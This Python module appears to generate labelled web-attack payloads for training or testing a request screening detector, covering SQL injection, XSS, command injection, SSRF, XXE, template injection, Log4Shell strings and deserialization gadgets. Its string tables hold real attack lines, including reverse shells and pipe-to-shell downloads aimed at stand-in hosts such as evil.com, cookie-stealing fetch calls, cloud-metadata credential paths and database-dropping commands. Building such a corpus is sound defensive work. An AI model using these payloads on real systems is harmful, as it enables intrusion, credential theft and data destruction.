"""Our own attack generators, for the families the package lists miss or cover thinly.

Each generator combines independently written templates with seeded random parts (hosts, commands,
files, encodings), so the payloads are varied but reproducible. They are written from the public
descriptions of each attack class (OWASP testing guide categories), not copied from a list.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator

from screening.corpus import Sample

SOURCE = "portcullis-gen"
_HOSTS = ("evil.com", "attacker.io", "x.oast.fun", "abc123.burpcollaborator.net", "203.0.113.9", "198.51.100.7:4444",
          "c2.example.org", "pwn.me", "kx8j.interact.sh", "requestbin.net/r/1x2y")
_INTERNAL = ("127.0.0.1", "localhost", "169.254.169.254", "[::1]", "0.0.0.0", "10.0.0.1", "192.168.1.1",
             "metadata.google.internal", "2130706433", "0x7f000001", "017700000001", "127.1", "172.17.0.1",
             "100.100.100.200", "[::ffff:127.0.0.1]", "localtest.me", "internal-api.svc.cluster.local")
_FILES = ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/proc/self/cmdline",
          "C:\\Windows\\win.ini", "C:/boot.ini", "/var/log/apache2/access.log", "/root/.ssh/id_rsa",
          "/etc/issue", "WEB-INF/web.xml", "../config/database.yml", "/app/.env", "/home/user/.bash_history")
_COMMANDS = ("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "ping -c 3 {h}", "nslookup {h}",
             "curl http://{h}/x|sh", "wget http://{h}/s -O /tmp/s", "sleep 5", "nc -e /bin/sh {h} 4444",
             "bash -i >& /dev/tcp/{h}/4444 0>&1", "echo vulnerable", "net user", "type C:\\Windows\\win.ini",
             "powershell -enc SQBFAFgA", "cmd /c dir", "python -c 'import os;os.system(\"id\")'",
             "perl -e 'print 1'", "cat${{IFS}}/etc/passwd", "/bin/sh -c id", "rm -rf /tmp/x", "env", "hostname")


def _pick(rng: random.Random, options: tuple[str, ...]) -> str:
    return rng.choice(options)


def sqli(rng: random.Random) -> str:
    quote = _pick(rng, ("'", '"', "", "')", "\")", "'))", "`", "1'", "1\"", "1)", "-1'", "admin'"))
    comment = _pick(rng, ("--", "-- -", "#", "/*", ";--", "", "%00", "-- x"))
    n = rng.randint(1, 9999)
    body = _pick(rng, (
        f" or {n}={n}", f" or '{n}'='{n}", f" and {n}={n + 1}", " or 1=1", " or true", " or 'a'='a",
        f" union select null,{_pick(rng, ('version()', '@@version', 'user()', 'database()', 'table_name'))},null",
        " union all select username,password from users",
        f" and sleep({rng.randint(2, 10)})", f"; waitfor delay '0:0:{rng.randint(2, 9)}'",
        f" and (select {n} from (select(sleep({rng.randint(2, 9)})))a)", "; drop table users",
        f" and extractvalue(1,concat(0x7e,(select {_pick(rng, ('user()', 'version()', 'database()'))})))",
        " and 1=convert(int,(select top 1 name from sysobjects))", " order by 10",
        f" and ascii(substring((select password from users limit 1),1,1))>{rng.randint(30, 120)}",
        " having 1=1", " group by columnnames having 1=1", f"; select pg_sleep({rng.randint(2, 9)})",
        " and updatexml(1,concat(0x7e,version()),1)", " or benchmark(10000000,md5(1))",
        "; exec master..xp_cmdshell 'ping 127.0.0.1'", f" rlike (select (case when ({n}={n}) then 1 else 0x28 end))",
        " and 1 in (select @@version)", " union select load_file('/etc/passwd')",
        " into outfile '/var/www/html/s.php'", " or 1 like 1", " or exists(select * from users)",
        f" || (select {n} from dual)", f" and {n}=dbms_pipe.receive_message(chr(65),5)",
    ))
    return f"{quote}{body}{comment}"


def xss(rng: random.Random) -> str:
    fn = _pick(rng, ("alert(1)", "alert(document.cookie)", "prompt(1)", "confirm`1`", "alert(String.fromCharCode(88,83,83))",
                     "eval(atob('YWxlcnQoMSk='))", "fetch('//" + _pick(rng, _HOSTS) + "?c='+document.cookie)",
                     "top['al'+'ert'](1)", "window.location='//" + _pick(rng, _HOSTS) + "'", "print()",
                     "import('//" + _pick(rng, _HOSTS) + "/x.js')", "self[`alert`](1)"))
    tag = _pick(rng, ("img src=x", "svg", "body", "video src=1", "audio src=1", "iframe", "details open",
                      "input autofocus", "marquee", "select autofocus", "math", "object data=x", "a href=#",
                      "div style=x", "img/src/", "svg/x", "textarea autofocus", "keygen autofocus"))
    event = _pick(rng, ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onanimationstart",
                        "onpointerenter", "onbegin", "onclick", "onblur", "onwheel"))
    prefix = _pick(rng, ("", "", "'>", '">', "</script>", "'-", '";', "</title>", "<!--", "\\'"))
    form = rng.randrange(8)
    if form == 0:
        return f"{prefix}<script>{fn}</script>"
    if form == 1:
        return f"{prefix}<{tag} {event}={fn}>"
    if form == 2:
        return f"{prefix}<a href=\"javascript:{fn}\">x</a>"
    if form == 3:
        return f"{prefix}<iframe src=\"data:text/html;base64,{base64.b64encode(f'<script>{fn}</script>'.encode()).decode()}\">"
    if form == 4:
        return f"{prefix}\" {event}=\"{fn}\" x=\""
    if form == 5:
        return f"{prefix}<svg><script>{fn}</script></svg>"
    if form == 6:
        return f"{prefix}';{fn};//"
    return f"{prefix}<{tag} {event}=\"{fn}\" style=\"animation-name:x\">"


def cmdi(rng: random.Random) -> str:
    command = _pick(rng, _COMMANDS).format(h=_pick(rng, _HOSTS))
    sep = _pick(rng, ("; ", "| ", "|| ", "&& ", "& ", "\n", "`", "$(", ";", "%0a", "\r\n"))
    before = _pick(rng, ("", "127.0.0.1", "file.txt", "1", "test", "'", "\""))
    if sep == "`":
        return f"{before}`{command}`"
    if sep == "$(":
        return f"{before}$({command})"
    return f"{before}{sep}{command}{_pick(rng, ('', '', ' #', ';', ' &'))}"


def traversal(rng: random.Random) -> str:
    depth = rng.randint(2, 10)
    up = _pick(rng, ("../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "....//", "..%c0%af", "..%252f", "..;/",
                     "%252e%252e%252f", "..\\/", ".%2e/"))
    target = _pick(rng, _FILES).lstrip("/")
    form = rng.randrange(5)
    if form == 0:
        return up * depth + target
    if form == 1:
        return _pick(rng, ("file://", "php://filter/convert.base64-encode/resource=", "expect://", "phar://",
                           "zip://", "/")) + _pick(rng, _FILES).lstrip("/")
    if form == 2:
        return f"{_pick(rng, ('images/', 'static/', 'uploads/', ''))}{up * depth}{target}%00.{_pick(rng, ('jpg', 'png', 'pdf'))}"
    if form == 3:
        return "/" + target
    return f"{_pick(rng, ('index.php?page=', 'download?file=', 'view?template='))}{up * depth}{target}"


def ssrf(rng: random.Random) -> str:
    host = _pick(rng, _INTERNAL)
    port = _pick(rng, ("", ":80", ":22", ":6379", ":8080", ":2375", ":9200", ":11211", ":3306"))
    path = _pick(rng, ("/", "/latest/meta-data/", "/latest/meta-data/iam/security-credentials/",
                       "/computeMetadata/v1/", "/admin", "/server-status", "/_cat/indices", "/v1.24/containers/json",
                       "/metadata/instance?api-version=2021-02-01", ""))
    scheme = _pick(rng, ("http://", "http://", "https://", "gopher://", "dict://", "file://", "ftp://",
                         "ldap://", "http://user@", "http://" + _pick(rng, _HOSTS) + "@"))
    if scheme == "gopher://":
        return f"gopher://{host}:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"
    if scheme == "file://":
        return "file://" + _pick(rng, _FILES)
    return f"{scheme}{host}{port}{path}"


def xxe(rng: random.Random) -> str:
    target = _pick(rng, ("file:///etc/passwd", "file:///c:/windows/win.ini", f"http://{_pick(rng, _HOSTS)}/x.dtd",
                         "php://filter/convert.base64-encode/resource=index.php", "expect://id",
                         f"http://{_pick(rng, _INTERNAL)}/latest/meta-data/"))
    name = _pick(rng, ("xxe", "foo", "ent", "x", "data", "file"))
    form = rng.randrange(4)
    if form == 0:
        return f'<?xml version="1.0"?><!DOCTYPE {name} [<!ENTITY {name} SYSTEM "{target}">]><r>&{name};</r>'
    if form == 1:
        return f'<!DOCTYPE r [<!ENTITY % {name} SYSTEM "{target}"> %{name};]><r/>'
    if form == 2:
        return (f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [\n  <!ELEMENT foo ANY >\n'
                f'  <!ENTITY {name} SYSTEM "{target}" >]>\n<foo>&{name};</foo>')
    return '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>'


def ssti(rng: random.Random) -> str:
    n1, n2 = rng.randint(2, 99), rng.randint(2, 99)
    return _pick(rng, (
        f"{{{{{n1}*{n2}}}}}", f"${{{n1}*{n2}}}", f"#{{{n1}*{n2}}}", f"<%= {n1}*{n2} %>", f"{{{{{n1}*'{n2}'}}}}",
        "{{config.items()}}", "{{self.__init__.__globals__.__builtins__}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{lipsum.__globals__['os'].popen('whoami').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))", "{php}echo `id`;{/php}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
        "${{<%[%'\"}}%\\.", "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
        f"@({n1}*{n2})", f"[[${{{n1}*{n2}}}]]", "${@java.lang.Runtime@getRuntime().exec('id')}",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    ))


def ldap(rng: random.Random) -> str:
    attr = _pick(rng, ("uid", "cn", "mail", "sn", "userPassword", "objectClass", "sAMAccountName"))
    return _pick(rng, (
        "*", f"*)({attr}=*", f"*)({attr}=*))(|({attr}=*", "admin)(&)", f"*)(|({attr}=*)", f"admin*)((|{attr}=*)",
        "*)(objectClass=*", f"x)(|(objectClass=*)({attr}=*", "*))%00", f"admin)(!({attr}=x)", "*()|&'",
        f"{_pick(rng, ('john', 'admin', 'a'))}*)(|(password=*)", "*)(userPassword=*)(|(cn=*",
        "//user[name/text()='' or '1'='1']", "' or count(/*)=1 or 'a'='b", "'] | //* | //*['",
        "' or name()='username' or 'x'='y", "admin' or string-length(name(/*[1]))>0 or 'a'='",
    ))


def nosql(rng: random.Random) -> str:
    op = _pick(rng, ("$ne", "$gt", "$regex", "$where", "$exists", "$nin", "$in", "$expr", "$lt"))
    return _pick(rng, (
        f'{{"{op}": null}}', f'{{"{op}": ""}}', f'{{"{op}": ".*"}}', '{"$where": "sleep(5000)"}',
        '{"$where": "this.password.match(/^a/)"}', "'; return true; var x='", "' || '1'=='1",
        "[$ne]=1", f"[{op}]=", "true, $where: '1 == 1'", '{"$gt": ""}', "'; while(true){}; '",
        '{"username": {"$ne": null}, "password": {"$ne": null}}', '{"$or": [{}, {"a": 1}]}',
        "this.constructor.constructor('return process')().exit()", "db.users.find({})",
        '{"$regex": "^adm", "$options": "i"}', "1; db.dropDatabase()",
    ))


def crlf(rng: random.Random) -> str:
    header = _pick(rng, ("Set-Cookie: session=attacker", "Location: http://" + _pick(rng, _HOSTS),
                         "X-XSS-Protection: 0", "Content-Length: 0", "Content-Type: text/html",
                         "Refresh: 0;url=//" + _pick(rng, _HOSTS), "Access-Control-Allow-Origin: *",
                         "X-Forwarded-Host: " + _pick(rng, _HOSTS)))
    nl = _pick(rng, ("%0d%0a", "%0a", "\r\n", "\n", "%0d%0a%0d%0a", "%E5%98%8A%E5%98%8D", "%u000d%u000a", "\\r\\n"))
    tail = _pick(rng, ("", "", f"{nl}{nl}<script>alert(1)</script>", f"{nl}HTTP/1.1 200 OK{nl}"))
    return f"{_pick(rng, ('', 'en', 'x', '/', 'index'))}{nl}{header}{tail}"


def jndi(rng: random.Random) -> str:
    host = _pick(rng, _HOSTS)
    proto = _pick(rng, ("ldap", "ldaps", "rmi", "dns", "iiop", "nis", "nds", "corba", "http"))
    obfuscated = (
        "${jndi:", "${${lower:j}ndi:", "${${::-j}${::-n}${::-d}${::-i}:", "${${env:NaN:-j}ndi:",
        "${j${::-n}di:", "${${upper:j}ndi:", "${jNdI:", "${${date:'j'}ndi:", "${${base64:am5kaQ==}:",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}",
    )
    head = _pick(rng, obfuscated)
    proto_part = _pick(rng, (proto, "${lower:" + proto + "}", "${::-" + proto[0] + "}" + proto[1:]))
    tail = _pick(rng, ("a", "Exploit", "${sys:java.version}", "${env:AWS_SECRET_ACCESS_KEY}", "${hostName}", "o=tomcat"))
    return f"{head}{proto_part}://{host}/{tail}}}"


def deser(rng: random.Random) -> str:
    java = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + rng.randbytes(24)).decode()
    return _pick(rng, (
        java, "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0",
        'O:8:"stdClass":1:{s:4:"test";s:4:"evil";}', 'a:2:{i:0;s:4:"test";i:1;O:7:"Example":0:{}}',
        'O:21:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"' + "\x00" + '*' + "\x00" + 'socket";O:29:"Monolog\\Handler\\BufferHandler":0:{}}',
        "!!python/object/apply:os.system ['id']", "!!python/object/new:subprocess.Popen [['id']]",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + _pick(rng, _HOSTS) + "/\"]]]]",
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + _pick(rng, _HOSTS) + '/a","autoCommit":true}',
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
        "cos\nsystem\n(S'id'\ntR.", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
        "aced0005737200116a6176612e7574696c2e486173684d6170", "--- !ruby/object:Gem::Installer\ni: x",
        '["java.util.HashMap",{"rce":["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://x/y"}]}]',
    ))


def scanner(rng: random.Random) -> str:
    return _pick(rng, (
        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
        "Nmap Scripting Engine; https://nmap.org/book/nse.html", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "DirBuster-1.0-RC1 (http://www.owasp.org)",
        "gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "Wfuzz/3.1.0", "zgrab/0.x", "Acunetix Web Vulnerability Scanner",
        "/.env", "/.git/config", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/.aws/credentials",
        "/actuator/env", "/server-status", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.DS_Store",
        "/cgi-bin/test.cgi", "/backup.sql", "/config.php.bak", "/wp-login.php", "/xmlrpc.php", "/.svn/entries",
        "/web.config", "/WEB-INF/web.xml", "/console/login/LoginForm.jsp", "/solr/admin/cores",
        "/HNAP1/", "/boaform/admin/formLogin", "/owa/auth/logon.aspx", "() { :; }; /bin/bash -c 'id'",
        "() { :;}; echo; /bin/cat /etc/passwd",
    ))


GENERATORS: dict[str, Callable[[random.Random], str]] = {
    "sqli": sqli, "xss": xss, "cmdi": cmdi, "traversal": traversal, "ssrf": ssrf, "xxe": xxe, "ssti": ssti,
    "ldap": ldap, "nosql": nosql, "crlf": crlf, "jndi": jndi, "deser": deser, "scanner": scanner,
}
_LOCATION = {"xxe": "body", "nosql": "key", "jndi": "header", "scanner": "header", "crlf": "any"}


def generated(rng: random.Random, per_family: int = 700) -> Iterator[Sample]:
    for family, make in GENERATORS.items():
        seen: set[str] = set()
        for _ in range(per_family * 3):
            if len(seen) >= per_family:
                break
            text = make(rng)
            if text in seen:
                continue
            seen.add(text)
            location = _LOCATION.get(family, "any")
            if family == "scanner" and text.startswith("/"):
                location = "path"
            yield Sample(text, 1, family, SOURCE, f"{SOURCE}:{family}:{text[:40]}", location)
